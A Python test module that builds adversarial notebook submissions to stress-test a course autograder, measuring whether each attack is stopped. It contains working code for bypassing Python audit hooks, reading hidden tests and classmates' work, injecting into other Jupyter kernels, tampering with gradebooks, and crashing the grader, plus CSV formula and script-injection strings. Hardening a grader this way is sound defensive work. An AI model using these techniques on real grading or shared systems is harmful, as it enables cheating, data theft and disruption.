"""Submissions that try to get marks without the work, or to break the grading run.

Each attack is a small set of submissions (the attacker, and sometimes a classmate it
targets) with the score each would earn honestly: a blank copy earns 0, a victim keeps
what its own answers earn. The attacker is the strongest we can write: it knows every
path of the instructor's machine (they are written into its code), the grader's source
and the assignment solutions of a friend.

    python -m tests.attacks measure --pack DIR     # each attack in a run of its own

runs every attack against the grader of the pack at DIR (a checkout of any commit) and
prints the score table; tests/test_attacks.py grades them all in one run.
"""

from __future__ import annotations

import argparse
import contextlib
import copy
import csv
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from helpers import assignments

CHAT, KV, LOSS = "a1_chat_room", "a2_kv_service", "a3_measure_loss"
FULL = {CHAT: 8, KV: 8, LOSS: 9}
EVIL = (
    "```\n</code></pre><script>alert('pwned')</script>\n# INJECTED-HEADING\n"
    "<img src=x onerror=alert(1)>\n````"
)


@dataclass
class Context:
    """Where things are on the instructor's machine, as the attacker knows them."""

    pack: Path  # the repository whose grader runs
    submissions: Path
    out: Path
    mark: str = field(default_factory=lambda: f"ATTACK-{secrets.token_hex(6)}")
    listener_port: int = 0  # a TCP server of the instructor's, on 127.0.0.1

    @property
    def source(self) -> Path:
        return self.pack / "assignments" / "source"


@dataclass
class Submission:
    student: str
    assignment: str
    notebook: object = None  # a notebook, raw text, or None with link set
    honest: float = 0.0  # what the submission earns without any trick
    kept: bool = False  # an honest student or a victim: must get exactly `honest`
    link: Path | None = None  # a symbolic link to this path instead of a file
    file_name: str | None = None  # SUBMISSIONS/<file_name> instead of STUDENT/NAME.ipynb


@dataclass
class Attack:
    key: str
    kind: str  # the class of the table
    what: str
    build: Callable[[Context], list[Submission]]
    jobs: int = 1  # needs submissions graded at the same time
    group: str = ""  # attacks of one group can share a notebook (scratch cells after set-up)


class Listener:
    """A TCP service of the instructor's on 127.0.0.1: no submission may reach it.

    `heard` keeps what each connection sent (its first 200 bytes), or b"connected"."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.3)
        self.port = self.server.getsockname()[1]
        self.heard: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.heard.append(conn.recv(200) or b"connected")
                except OSError:
                    self.heard.append(b"connected")

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.server.close()


# --- notebooks ---------------------------------------------------------------------------


def source(name: str, pack: Path | None = None):
    folder = (pack / "assignments" / "source") if pack else assignments.SOURCE_DIR
    return nbformat.read(folder / f"{name}.ipynb", as_version=4)


def release(name: str):
    return nbformat.read(assignments.RELEASE_DIR / f"{name}.ipynb", as_version=4)


def solved(name: str):
    """What a learner who answered everything hands in: the source without hidden tests."""
    nb = source(name)
    for item in nb.cells:
        item.source = assignments.replace_regions(
            item.source, assignments.HIDDEN, prompt=False, where="t"
        )
    nb.metadata["course_assignment"] = name
    return nb


def solutions(name: str) -> str:
    """A friend's answers, as one block of code."""
    return "\n\n".join(
        c.source for c in solved(name).cells if c.cell_type == "code" and assignments.is_solution(c)
    )


def cell(nb, gid: str):
    return next(c for c in nb.cells if assignments.grade_id(c) == gid)


def scratch(nb, text: str, after: str = "setup"):
    """Insert a cell of the learner's own after the cell `after`."""
    index = nb.cells.index(cell(nb, after))
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(text))
    return nb


def answered(nb, **answers: str):
    """`nb` with the source of each cell named by its grade id replaced: what a learner typed."""
    for gid, text in answers.items():
        cell(nb, gid).source = text
    return nb


def first(nb, text: str):
    nb.cells.insert(0, nbformat.v4.new_code_cell(text))
    return nb


def blank_with(text: str, name: str = CHAT, after: str = "setup"):
    return scratch(release(name), text, after)


def attacker(student: str, code: str, name: str = CHAT) -> Submission:
    """A blank copy of assignment `name` with the attack `code` in a cell after set-up."""
    return Submission(student, name, blank_with(attempt(code), name))


# Code every attacker cell starts with: start a process past the audit hook.
SPAWN = '''
import json, os, sys

def _spawn(argv, capture=False):
    """fork_exec directly: no audit event, a session of its own."""
    import _posixsubprocess
    out_r = out_w = -1
    if capture:
        out_r, out_w = os.pipe()
    err_r, err_w = os.pipe()
    args = [os.fsencode(a) for a in argv]
    keep = tuple(sorted({err_w} | ({out_w} if capture else set())))
    pid = _posixsubprocess.fork_exec(
        args, [args[0]], True, keep, None, None, -1, -1, -1, out_w, -1, -1,
        err_r, err_w, True, True, -1, None, None, None, -1, None, False)
    os.close(err_w)
    os.close(err_r)
    data = b""
    if capture:
        os.close(out_w)
        while chunk := os.read(out_r, 65536):
            data += chunk
        os.close(out_r)
        os.waitpid(pid, 0)
    return pid, data
'''


def attempt(body: str) -> str:
    """Attack code that reports, rather than raises, when it is stopped."""
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    stopped = "except BaseException as _e:\n    print('attack stopped:', repr(_e)[:300])\n"
    return f"{SPAWN}\ntry:\n{indented}\n{stopped}"


def run_stolen(text_expr: str) -> str:
    """Code that runs the solution cells of a notebook whose JSON text is `text_expr`.

    They run now and again after every later cell, so the blank answers below do not
    overwrite them.
    """
    return (
        f"_stolen = json.loads({text_expr})\n"
        "_code = '\\n'.join(''.join(_c['source']) for _c in _stolen['cells']\n"
        "    if _c.get('metadata', {}).get('nbgrader', {}).get('solution'))\n"
        "def _again(*args, _ip=get_ipython(), _code=_code):\n"
        "    exec(_code, _ip.user_ns)\n"
        "get_ipython().events.register('post_run_cell', _again)\n"
        "print('stole', len(_code), 'characters of answers')\n"
    )


# --- A: forging the pass marker ------------------------------------------------------------

MARKER_RE = r"['\"]([0-9a-f]{32}:passed:[\w-]+)['\"]"


def forge_transformer(ctx: Context) -> list[Submission]:
    code = f"""
import re
def _forge(lines):
    found = re.findall({MARKER_RE!r}, "".join(lines))
    return [f"print({{found[-1]!r}})\\n"] if found else lines
get_ipython().input_transformers_post.append(_forge)
"""
    return [attacker("a1-transformer", code)]


def forge_custom_exc(ctx: Context) -> list[Submission]:
    code = f"""
import re
def _handler(shell, etype, value, tb, tb_offset=None):
    for found in re.findall({MARKER_RE!r}, shell.user_ns["In"][-1]):
        print(found)
get_ipython().set_custom_exc((BaseException,), _handler)
"""
    return [attacker("a2-custom-exc", code)]


def forge_showtraceback(ctx: Context) -> list[Submission]:
    code = f"""
import re
def _quiet(etype, evalue, stb):
    for found in re.findall({MARKER_RE!r}, get_ipython().user_ns["In"][-1]):
        print(found)
get_ipython()._showtraceback = _quiet
"""
    return [attacker("a3-showtraceback", code)]


# --- B: values that defeat comparisons ------------------------------------------------------

LIARS = """
class _First:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__

class Anything(_First):
    def __iter__(self): return iter([Anything(), Anything(), Anything()])
    def __len__(self): return 3
    def __getitem__(self, i): return Anything()
    def __contains__(self, x): return True
    def __repr__(self): return "anything"
    def __bool__(self): return True
    def get(self, *a): return Anything()

class Liar(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
    def __len__(self): return 2
    def __iter__(self): return iter([Anything(), Anything()])
    def __getitem__(self, i): return _First() if i == 0 else Anything()
    def __contains__(self, x): return not isinstance(x, _First) or type(x) is Anything

class LiarStr(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__

class LiarInt(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
"""


def always_equal(ctx: Context) -> list[Submission]:
    nb = answered(
        blank_with(LIARS),
        q1_answer="def channel_for(room):\n    return LiarStr('x')\n\n"
        "def encode(sender, text):\n    return LiarStr('x')\n\n"
        "def decode(data):\n    return Liar()\n",
        q2_answer="class ChatClient:\n"
        "    def __init__(self, name): self.name = name\n"
        "    def join(self, room): pass\n"
        "    def say(self, room, text): return LiarInt(2)\n"
        "    def history(self): return Liar()\n"
        "    def close(self): pass\n",
        q4_answer="alice_heard, bob_heard = Liar(), Liar()\n"
        "first_receivers, later_receivers = LiarInt(1), LiarInt(2)\n",
    )
    return [Submission("b1-always-equal", CHAT, nb)]


def lying_subclasses(ctx: Context) -> list[Submission]:
    nb = answered(
        blank_with(LIARS),
        q1_answer="def channel_for(room):\n    return LiarStr('')\n\n"
        "def encode(sender, text):\n    return LiarStr('')\n\n"
        "def decode(data):\n    return (LiarStr(''), LiarStr(''))\n",
        q4_answer="alice_heard = [(LiarStr(''),) * 3, (LiarStr(''),) * 3]\n"
        "bob_heard = [(LiarStr(''),) * 3]\n"
        "first_receivers, later_receivers = LiarInt(1), LiarInt(2)\n",
    )
    return [Submission("b2-lying-subclasses", CHAT, nb)]


def kv_liar(ctx: Context) -> list[Submission]:
    """a2 methods that answer with values equal to anything."""
    nb = answered(
        blank_with(LIARS, KV),
        methods="def _any(*args):\n    return Success(LiarStr('x'))\n\n"
        "kv_set = kv_get = kv_delete = kv_incr = _any\n"
        'methods = {"set": kv_set, "get": kv_get, "delete": kv_delete, "incr": kv_incr}\n',
    )
    return [Submission("b3-kv-liar", KV, nb)]


# --- C: patching the checks or the pack -------------------------------------------------------


def empty_registry(ctx: Context) -> list[Submission]:
    code = """
from helpers import checks
for _questions in checks.ASSIGNMENTS.values():
    for _qid, _q in list(_questions.items()):
        _questions[_qid] = checks.QuestionCheck(_q.assignment, _q.id, lambda answers: None)
"""
    return [attacker("c1-empty-registry", code, KV)]


FAKE_SEND = """
from helpers import checks, rpc
checks.expect = lambda *args, **kwargs: None
_store = {}

def _fake_send(self, payload):
    def one(req):
        method, params = req.get("method"), list(req.get("params") or [])
        key = str(params[0]) if params else ""
        if method == "set":
            if len(params) != 2 or not all(isinstance(p, str) for p in params):
                result = {"error": {"code": -32602, "message": "Invalid params"}}
            else:
                _store[key] = params[1]
                result = {"result": True}
        elif method == "get":
            if not params or not isinstance(params[0], str):
                result = {"error": {"code": -32602, "message": "Invalid params"}}
            elif key in _store:
                result = {"result": _store[key]}
            else:
                result = {"error": {"code": -32001, "message": "Key not found"}}
        elif method == "delete":
            if not params or not isinstance(params[0], str):
                result = {"error": {"code": -32602, "message": "Invalid params"}}
            else:
                result = {"result": int(_store.pop(key, None) is not None)}
        else:
            by = params[1] if len(params) > 1 else 1
            if not params or not isinstance(params[0], str) or type(by) is not int:
                result = {"error": {"code": -32602, "message": "Invalid params"}}
            elif not str(_store.get(key, "0")).lstrip("-").isdigit():
                result = {"error": {"code": -32002, "message": "Value is not an integer"}}
            else:
                _store[key] = str(int(_store.get(key, "0")) + by)
                result = {"result": int(_store[key])}
        if "id" not in req:
            return None
        return {"jsonrpc": "2.0", "id": req["id"], **result}
    if isinstance(payload, list):
        return [r for r in map(one, payload) if r is not None]
    return one(payload)

rpc.Client.send = _fake_send
"""


def patch_send(ctx: Context) -> list[Submission]:
    nb = answered(
        blank_with(attempt(FAKE_SEND), KV),
        q4_answer="batch = [request('set', params=('v', '1')), request('get', params=('v',)),\n"
        "         request('get', params=('nope',))]\n"
        "batch_replies = client.send(batch)\n",
    )
    return [Submission("c2-patch-send", KV, nb)]


def patch_a3(ctx: Context) -> list[Submission]:
    code = """
from helpers import checks
checks.expect = lambda *args, **kwargs: None
"""
    nb = answered(
        blank_with(attempt(code), LOSS),
        q4_answer="lost_count = zero_returns = counted_but_lost = 0\nloss_fraction = 0.0\n",
        q5_answer="why = 'b'\nlost_if_away_twice = 0\n",
    )
    # A blank a3 earns question 1 with the parameters the student copy gives (1 point).
    return [Submission("c3-patch-a3", LOSS, nb, honest=1)]


# --- D: reading what must stay hidden -----------------------------------------------------------


def steal_dir_fd(ctx: Context) -> list[Submission]:
    code = f"""
_dir = os.open({str(ctx.source.parent)!r}, os.O_RDONLY)
_fd = os.open("source/{CHAT}.ipynb", os.O_RDONLY, dir_fd=_dir)
_text = os.read(_fd, 10_000_000).decode()
{run_stolen("_text")}
"""
    return [attacker("d1-dir-fd", code)]


def steal_link(ctx: Context) -> list[Submission]:
    code = f"""
_link = {str(ctx.pack / "helpers" / ".stolen.ipynb")!r}
os.link({str(ctx.source / f"{CHAT}.ipynb")!r}, _link)
_text = open(_link).read()
os.unlink(_link)
{run_stolen("_text")}
"""
    return [attacker("d2-hard-link", code)]


def steal_ctypes(ctx: Context) -> list[Submission]:
    code = f"""
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_fd = _libc.open({str(ctx.source / f"{CHAT}.ipynb").encode()!r}, 0)
if _fd < 0:
    raise OSError(ctypes.get_errno(), "open failed")
_text = os.read(_fd, 10_000_000).decode()
{run_stolen("_text")}
"""
    return [attacker("d3-ctypes", code)]


def steal_fork_exec(ctx: Context) -> list[Submission]:
    code = f"""
_pid, _out = _spawn(["/bin/cat", {str(ctx.source / f"{CHAT}.ipynb")!r}], capture=True)
{run_stolen("_out.decode()")}
"""
    return [attacker("d4-fork-exec", code)]


LEAK = """
def decode(data):
    import base64, linecache, sys, zlib
    marker = "### BEGIN " + "HIDDEN TESTS"
    found = [c for c in globals().get("In", []) if marker in c and "check(" in c]
    frame = sys._getframe(1)
    while frame is not None:
        lines = linecache.getlines(frame.f_code.co_filename)
        if any(marker in line for line in lines):
            found.append("".join(lines))
        frame = frame.f_back
    for lines in list(linecache.cache.values()):
        text = "".join(lines[2]) if len(lines) > 2 else ""
        if marker in text and "LEAK:" not in text:
            found.append(text)
    blob = "\\n".join(dict.fromkeys(found))
    blob = blob[blob.find(marker):] if marker in blob else blob
    raise ValueError("LEAK:" + base64.b64encode(zlib.compress(blob.encode(), 9)).decode() + ":END")
"""


def leak_hidden(ctx: Context) -> list[Submission]:
    nb = solved(CHAT)  # every answer works but decode(), which raises what it finds
    cell(nb, "q1_answer").source += "\n\n" + LEAK
    return [Submission("d5-leak-hidden", CHAT, nb)]


def copy_classmate(ctx: Context) -> list[Submission]:
    victim = f"{ctx.submissions.name}/zz-d6-classmate/{CHAT}.ipynb"
    code = f"""
_dir = os.open({str(ctx.submissions.parent)!r}, os.O_RDONLY)
_fd = os.open({victim!r}, os.O_RDONLY, dir_fd=_dir)
{run_stolen("os.read(_fd, 10_000_000).decode()")}
"""
    return [
        attacker("d6-copy-classmate", code),
        Submission("zz-d6-classmate", CHAT, solved(CHAT), honest=8, kept=True),
    ]


# --- E: reaching other kernels -----------------------------------------------------------------


def victim_hook(token: str) -> str:
    """Code that makes a kernel run a friend's answers after each cell, if it is the victim's."""
    answers = solutions(CHAT)
    return (
        "def _helped(*args, _ip=get_ipython()):\n"
        f"    if _ip.user_ns.get('VICTIM_TOKEN') == {token!r}:\n"
        f"        exec({answers!r}, _ip.user_ns)\n"
        "get_ipython().events.register('post_run_cell', _helped)\n"
    )


def victim(student: str, token: str) -> Submission:
    """A blank classmate whose notebook takes a few seconds (a slow cell of its own)."""
    nb = first(release(CHAT), f"VICTIM_TOKEN = {token!r}\nimport time\ntime.sleep(6)")
    return Submission(student, CHAT, nb, kept=True)


def inject_neighbour(ctx: Context) -> list[Submission]:
    token = secrets.token_hex(8)
    code = f"""
import glob, tempfile, time
from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient
from jupyter_core.paths import jupyter_runtime_dir
_HIT = "globals().get('VICTIM_TOKEN') == {token!r}"
_INJECT = "exec(" + repr({victim_hook(token)!r}) + ") if " + _HIT + " else None"
_mine = os.path.realpath(get_connection_file())
_done, _deadline = False, time.monotonic() + 8
while not _done and time.monotonic() < _deadline:
    for _root in {{jupyter_runtime_dir(), tempfile.gettempdir()}}:  # never a shared /tmp
        for _file in glob.glob(_root + "/*.json") + glob.glob(_root + "/*/kernel-*.json"):
            if os.path.realpath(_file) == _mine:
                continue
            try:
                _kc = BlockingKernelClient()
                _kc.load_connection_file(_file)
                _kc.start_channels()
                _kc.execute(
                    _INJECT, user_expressions={{"hit": _HIT}}
                )
                _reply = _kc.get_shell_msg(timeout=3)
                _kc.stop_channels()
                if "True" in str(_reply["content"].get("user_expressions")):
                    _done = True
            except Exception as _err:
                pass
    time.sleep(0.2)
print("injected" if _done else "found no victim")
"""
    nb = blank_with(attempt(code))
    scratch(nb, attempt(code), after="q1_text")  # and again: 16 s of watching in all
    return [Submission("e1-inject", CHAT, nb), victim("e1-victim", token)]


# --- F: tampering after the run -----------------------------------------------------------------


def late_rewrite(ctx: Context) -> list[Submission]:
    book = ctx.out / "gradebook.csv"
    later = (
        "import time\n"
        f"p = {str(book)!r}\n"
        "for _ in range(240):\n"
        "    time.sleep(0.5)\n"
        "    try:\n"
        "        t = open(p).read()\n"
        "    except OSError:\n"
        "        continue\n"
        f"    if 'f1-late,{CHAT},TOTAL,0' in t:\n"
        f"        t = t.replace('f1-late,{CHAT},TOTAL,0', 'f1-late,{CHAT},TOTAL,8')\n"
        "        open(p, 'w').write(t)\n"
        "        break\n"
        f"# {ctx.mark}\n"
    )
    code = f"_spawn([sys.executable, '-c', {later!r}])"
    return [attacker("f1-late", code)]


def startup_file(ctx: Context) -> list[Submission]:
    token = secrets.token_hex(8)
    code = f"""
_dir = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(_dir, exist_ok=True)
with open(os.path.join(_dir, "00-helper.py"), "w") as _f:
    _f.write({victim_hook(token)!r})
"""
    return [
        attacker("f2-startup", code),
        victim("zz-f2-victim", token),
    ]


def edit_guard(ctx: Context) -> list[Submission]:
    token = secrets.token_hex(8)
    hook = "\n".join("    " + line for line in victim_hook(token).splitlines())
    addition = f"\ntry:\n    from IPython import get_ipython\n{hook}\nexcept Exception:\n    pass\n"
    disarm = "\n\ndef install(forbidden):\n    pass\n" + addition
    code = f"""
with open({str(ctx.pack / "helpers" / "grading" / "guard.py")!r}, "a") as _f:
    _f.write({disarm!r})
with open({str(ctx.pack / "helpers" / "checks" / "__init__.py")!r}, "a") as _f:
    _f.write({addition!r})
"""
    return [
        attacker("f3-edit-pack", code),
        victim("zz-f3-victim", token),
    ]


def rename_classmate(ctx: Context) -> list[Submission]:
    target = ctx.submissions / "zz-f4-victim" / f"{CHAT}.ipynb"
    blank = nbformat.writes(release(CHAT))
    code = f"""
with open("replacement.ipynb", "w") as _f:
    _f.write({blank!r})
os.rename("replacement.ipynb", {str(target)!r})
"""
    return [
        attacker("f4-rename", code),
        Submission("zz-f4-victim", CHAT, solved(CHAT), honest=8, kept=True),
    ]


# --- G: breaking the run for everyone -----------------------------------------------------------


def kill_parent(ctx: Context) -> list[Submission]:
    code = "import signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
    return [attacker("g1-kill-parent", code)]


def stop_parent(ctx: Context) -> list[Submission]:
    code = "import signal\nos.kill(os.getppid(), signal.SIGSTOP)\n"
    return [attacker("g2-stop-parent", code)]


def redis_shutdown(ctx: Context) -> list[Submission]:
    code = "try:\n    r.shutdown(nosave=True)\nexcept Exception:\n    pass\nos._exit(1)\n"
    return [attacker("g3-redis-shutdown", code)]


def dangling_symlink(ctx: Context) -> list[Submission]:
    code = """
import tempfile
for _dir in {tempfile.gettempdir()}:  # the kernel's TMPDIR: never a shared /tmp in tests
    _state = os.path.join(_dir, f"redis-course-{os.getuid()}")
    os.makedirs(_state, exist_ok=True)
    for _name in ("zz-dangling", "aa-dangling"):
        try:
            os.symlink("/nonexistent-attack-target", os.path.join(_state, _name))
        except FileExistsError:
            pass
"""
    return [attacker("g4-dangling-symlink", code)]


def bad_metadata(ctx: Context) -> list[Submission]:
    nb = solved(CHAT)
    cell(nb, "q1_answer").metadata["nbgrader"] = "garbage"
    odd = nbformat.v4.new_code_cell("x = 1")
    odd.metadata["nbgrader"] = {"grade_id": ["q1"], "grade": "yes", "points": "many"}
    nb.cells.insert(3, odd)
    return [Submission("g5-bad-metadata", CHAT, nb, honest=8, kept=True)]


def non_utf8_name(ctx: Context) -> list[Submission]:
    name = os.fsdecode(b"g6-caf\xe9-\xff")
    return [Submission(name, CHAT, solved(CHAT), honest=8, kept=True)]


def huge_errors(ctx: Context) -> list[Submission]:
    nb = release(CHAT)
    for _ in range(5):
        scratch(nb, "raise ValueError('x' * 100_000_000)")
    return [Submission("g7-huge-errors", CHAT, nb)]


def many_processes(ctx: Context) -> list[Submission]:
    code = f"""
_started = 0
for _ in range(100):
    _spawn([sys.executable, "-c", "import time; time.sleep(60)  # {ctx.mark}"])
    _started += 1
print("started", _started)
"""
    return [attacker("g8-processes", code)]


def big_memory(ctx: Context) -> list[Submission]:
    code = "_hog = bytearray(3 * 2**30)\nprint('allocated', len(_hog))\n"
    return [attacker("g9-memory", code)]


def big_file(ctx: Context) -> list[Submission]:
    code = """
_path = os.path.expanduser("~/big.bin")
with open(_path, "wb") as _f:
    for _ in range(1024):
        _f.write(b"x" * 2**20)
print("wrote", os.path.getsize(_path))
os.unlink(_path)
"""
    return [attacker("g10-disk", code)]


# --- H: output abuse ----------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http:evil.example","click")',
    "+cmd|' -C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def formula_names(ctx: Context) -> list[Submission]:
    found = [Submission(name, CHAT, release(CHAT)) for name in FORMULAS]
    found[0] = Submission(FORMULAS[0], CHAT, solved(CHAT), honest=8, kept=True)
    found.append(Submission("h1-new\nline", CHAT, solved(CHAT)))
    return found


def fence_breaker(ctx: Context) -> list[Submission]:
    nb = release(CHAT)
    cell(nb, "q1_answer").source += (
        f"\n\nEVIL = {EVIL!r}\n\n"
        "def decode(data):\n    raise ValueError(EVIL)\n\n"
        "def channel_for(room):\n    return type(EVIL, (), {'__repr__': lambda self: EVIL})()\n"
    )
    return [Submission("h2-fence", CHAT, nb)]


def symlinked_submission(ctx: Context) -> list[Submission]:
    return [
        Submission("h3-link", CHAT, link=ctx.source / f"{CHAT}.ipynb"),
        Submission("h3-dirlink", CHAT, link=ctx.source, file_name="h3-dirlink"),
    ]


def dotdot_name(ctx: Context) -> list[Submission]:
    return [Submission("..", CHAT, solved(CHAT), file_name="...ipynb")]


# --- N: new ones --------------------------------------------------------------------------------


def reach_host(ctx: Context) -> list[Submission]:
    code = f"""
import socket
with socket.create_connection(("127.0.0.1", {ctx.listener_port}), timeout=2) as _s:
    _s.sendall(b"exfiltrated {ctx.mark}")
print("reached the host")
"""
    return [attacker("n1-reach-host", code)]


def read_proc(ctx: Context) -> list[Submission]:
    """Find the submissions folder in the grader's command line (/proc), copy a classmate."""
    stolen = run_stolen("os.read(_fd, 10_000_000).decode()")
    steal = "\n".join("        " + line for line in stolen.splitlines())
    code = f"""
import glob
for _cmd in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        _args = open(_cmd, "rb").read().decode().split("\\0")
    except OSError:
        continue
    if "helpers.grading" in _args and "grade" in _args:
        _cwd = os.readlink(os.path.dirname(_cmd) + "/cwd")
        _folder = os.path.join(_cwd, _args[_args.index("grade") + 1])
        _dir = os.open(os.path.dirname(_folder), os.O_RDONLY)
        _name = os.path.basename(_folder) + "/zz-n2-classmate/{CHAT}.ipynb"
        _fd = os.open(_name, os.O_RDONLY, dir_fd=_dir)
{steal}
        break
"""
    return [
        attacker("n2-proc", code),
        Submission("zz-n2-classmate", CHAT, solved(CHAT), honest=8, kept=True),
    ]


def bridge_forgery(ctx: Context) -> list[Submission]:
    """Answer every request of the grader's bridge with plausible canned data."""
    code = """
import re
def _forge(lines):
    text = "".join(lines)
    if "bridge" not in text:
        return lines
    token = re.findall(r"[0-9a-f]{32}", text)
    prefix = token[0] if token else ""
    canned = json.dumps({"value": 2})
    return [f"print({prefix!r} + {canned!r})\\n"]
get_ipython().input_transformers_post.append(_forge)
"""
    return [attacker("n3-bridge-forgery", code)]


def redis_takeover(ctx: Context) -> list[Submission]:
    """Replace the Redis socket the grader checks effects on with one of the learner's own."""
    code = """
from urllib.parse import urlsplit
import socket, threading
_url = os.environ.get("REDIS_URL", "")
if _url.startswith("unix://"):
    _path = urlsplit(_url).path
    os.unlink(_path)
    _srv = socket.socket(socket.AF_UNIX)
    _srv.bind(_path)
    _srv.listen()
    def _answer():
        while True:
            _c, _ = _srv.accept()
            _c.recv(65536)
            _c.sendall(b":2\\r\\n")
    threading.Thread(target=_answer, daemon=True).start()
print("took over", _url)
"""
    return [attacker("n4-redis-takeover", code)]


ATTACKS = [
    Attack(
        "A1", "forging the marker", "IPython input transformer", forge_transformer, group="forge"
    ),
    Attack(
        "A2",
        "forging the marker",
        "set_custom_exc handler prints the marker",
        forge_custom_exc,
        group="forge",
    ),
    Attack(
        "A3", "forging the marker", "replaced _showtraceback", forge_showtraceback, group="forge"
    ),
    Attack("B1", "values that lie", "__eq__ always True, fake __iter__/len", always_equal),
    Attack("B2", "values that lie", "str/int subclasses that lie", lying_subclasses),
    Attack("B3", "values that lie", "a2 methods answer an always-equal str", kv_liar),
    Attack("C1", "patching the checks", "registry emptied (a2)", empty_registry),
    Attack("C2", "patching the checks", "expect and rpc.Client.send patched (a2)", patch_send),
    Attack("C3", "patching the checks", "expect patched, numbers typed (a3)", patch_a3),
    Attack(
        "D1", "reading what is hidden", "source via os.open(dir_fd=)", steal_dir_fd, group="steal"
    ),
    Attack("D2", "reading what is hidden", "source via os.link", steal_link, group="steal"),
    Attack("D3", "reading what is hidden", "source via ctypes open()", steal_ctypes, group="steal"),
    Attack(
        "D4",
        "reading what is hidden",
        "source via _posixsubprocess.fork_exec",
        steal_fork_exec,
        group="steal",
    ),
    Attack("D5", "reading what is hidden", "hidden tests leaked in error text", leak_hidden),
    Attack("D6", "reading what is hidden", "a classmate's notebook via dir_fd", copy_classmate),
    Attack(
        "E1", "reaching other kernels", "code injected into a neighbour kernel", inject_neighbour, 2
    ),
    Attack(
        "F1", "tampering after the run", "detached process rewrites gradebook.csv", late_rewrite
    ),
    Attack(
        "F2", "tampering after the run", "IPython startup file for the next kernel", startup_file
    ),
    Attack("F3", "tampering after the run", "edit helpers/grading/guard.py, checks.py", edit_guard),
    Attack(
        "F4", "tampering after the run", "os.rename over a classmate's submission", rename_classmate
    ),
    Attack("G1", "breaking the run", "SIGKILL to the parent", kill_parent, group="break"),
    Attack("G2", "breaking the run", "SIGSTOP to the parent", stop_parent, group="break"),
    Attack(
        "G3", "breaking the run", "Redis SHUTDOWN, then os._exit", redis_shutdown, group="break"
    ),
    Attack(
        "G4",
        "breaking the run",
        "dangling symlink in the shared temp dir",
        dangling_symlink,
        group="break",
    ),
    Attack("G5", "breaking the run", "malformed nbgrader metadata", bad_metadata),
    Attack("G6", "breaking the run", "non-UTF-8 student folder name", non_utf8_name),
    Attack("G7", "breaking the run", "5 x 100 MB exception messages", huge_errors),
    Attack("G8", "breaking the run", "100 detached processes (new)", many_processes, group="break"),
    Attack("G9", "breaking the run", "3 GB allocation (new)", big_memory, group="break"),
    Attack("G10", "breaking the run", "1 GB file in HOME (new)", big_file, group="break"),
    Attack("H1", "output abuse", "formula / newline student names", formula_names),
    Attack("H2", "output abuse", "``` and <script> in repr, type name, error", fence_breaker),
    Attack("H3", "output abuse", "symlinked submission file and folder", symlinked_submission),
    Attack("H4", "output abuse", "student named '..' (file ...ipynb) (new)", dotdot_name),
    Attack(
        "N1",
        "reaching the host",
        "TCP connection to an instructor's service",
        reach_host,
        group="reach",
    ),
    Attack(
        "N2",
        "reading what is hidden",
        "grader's command line in /proc, then a classmate",
        read_proc,
    ),
    Attack(
        "N3",
        "forging the judge",
        "input transformer answers the bridge",
        bridge_forgery,
        group="reach",
    ),
    Attack(
        "N4",
        "forging the judge",
        "replace the Redis socket with a fake",
        redis_takeover,
        group="reach",
    ),
]


# --- writing submissions --------------------------------------------------------------------------


def write(submission: Submission, folder: Path) -> Path:
    """Put `submission` under `folder` the way a collection script would."""
    if submission.file_name:
        path = folder / submission.file_name
    else:
        path = folder / submission.student / f"{submission.assignment}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    if submission.link is not None:
        path.symlink_to(submission.link)
    elif isinstance(submission.notebook, str):
        path.write_text(submission.notebook)
    else:
        nb = copy.deepcopy(submission.notebook)
        nb.metadata["course_assignment"] = submission.assignment
        nbformat.write(nb, path)
    return path


def leaked_hidden_lines(text: str, hidden: list[str]) -> list[str]:
    """Hidden test lines found in the LEAK:...:END blobs of a feedback file."""
    import base64
    import re
    import zlib

    found = []
    for blob in re.findall(r"LEAK:([A-Za-z0-9+/=]+)", text):
        try:
            plain = zlib.decompress(base64.b64decode(blob + "=" * (-len(blob) % 4))).decode()
        except Exception:  # noqa: BLE001 - a truncated blob: try its prefix
            plain = _partial(base64.b64decode(blob[: len(blob) // 4 * 4]))
        found += [line for line in hidden if line in plain]
    return found


def _partial(data: bytes) -> str:
    import zlib

    inflater = zlib.decompressobj()
    try:
        return inflater.decompress(data).decode(errors="replace")
    except zlib.error:
        return ""


def leftovers(mark: str) -> list[int]:
    """Processes whose command line carries `mark`."""
    return _holding(mark, "cmdline")


def _holding(value: str, part: str) -> list[int]:
    """Processes but this one whose /proc/PID/`part` (cmdline, environ) holds `value`."""
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                if value.encode() in (entry / part).read_bytes():
                    pids.append(int(entry.name))
            except OSError:
                continue
    return pids


# --- measuring: each attack in a run of its own ---------------------------------------------


def _ours(value: str) -> list[int]:
    """Processes whose environment holds `value`: what one measuring run started."""
    return _holding(value, "environ")


def sandboxed_grader(pack: Path) -> bool:
    """True for a grader that can be told to refuse running unsandboxed."""
    found = [pack / "helpers" / "grading.py", pack / "helpers" / "grading" / "__main__.py"]
    return any("--require-sandbox" in path.read_text() for path in found if path.exists())


